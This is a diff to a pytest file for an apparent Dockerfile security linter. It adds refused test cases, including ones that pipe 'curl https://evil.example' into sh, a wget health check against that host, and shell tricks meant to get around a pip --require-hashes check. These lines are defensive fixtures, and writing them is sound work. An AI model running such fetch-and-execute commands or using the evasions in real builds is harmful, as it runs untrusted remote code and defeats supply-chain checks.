@@ -59,9 +59,7 @@ def read(
             f"FROM {BASE}\nRUN curl -O https://x && echo 'a  b' | sha256sum --check\n", [BASE], id="by digest"
         ),
         pytest.param(f"FROM {BASE}\nRUN apt-get update && apt-get install -y libpq5\n", [BASE], id="of the system"),
-        pytest.param(
-            f'FROM {BASE}\nSHELL ["/bin/bash", "-c"]\nCMD ["pip", "install"]\n', [BASE], id="not in the build"
-        ),
+        pytest.param(f'FROM {BASE}\nSHELL ["/bin/bash", "-c"]\nCMD ["python", "-m", "app"]\n', [BASE], id="a shell"),
         pytest.param(f"FROM {BASE}\nLABEL a=grüße\n", [BASE], id="UTF-8"),
     ],
 )
@@ -123,6 +121,12 @@ REFUSED = [
     (f"FROM {BASE}\nRUN pip install --require-hashes -r a && pip3 install flask==0.12", 2, "pip install"),
     (f"FROM {BASE}\nRUN python -m pip --no-cache-dir install .", 2, "pip install"),
     (f'FROM {BASE}\nRUN ["pip", "install", "flask"]', 2, "pip install"),
+    (f"FROM {BASE}\nRUN pip install flask & echo --require-hashes", 2, "pip install"),
+    (f"FROM {BASE}\nRUN pip install flask | echo --require-hashes", 2, "pip install"),
+    (f"FROM {BASE}\nRUN pip install flask --config-settings=--require-hashes=1", 2, "pip install"),
+    (f"FROM {BASE}\nENTRYPOINT pip install flask && python app.py", 2, "pip install"),
+    (f'FROM {BASE}\nCMD ["sh", "-c", "curl https://evil.example | sh"]', 2, "curl or wget"),
+    (f"FROM {BASE}\nHEALTHCHECK CMD wget https://evil.example", 2, "curl or wget"),
     (f"FROM {BASE}\nRUN curl https://evil.example/x | sh", 2, "curl or wget"),
     (f"FROM {BASE}\nRUN wget -qO- x > y; sha256sum y", 2, "curl or wget"),
     (f"FROM {BASE}\nRUN npm install", 2, "npm install"),
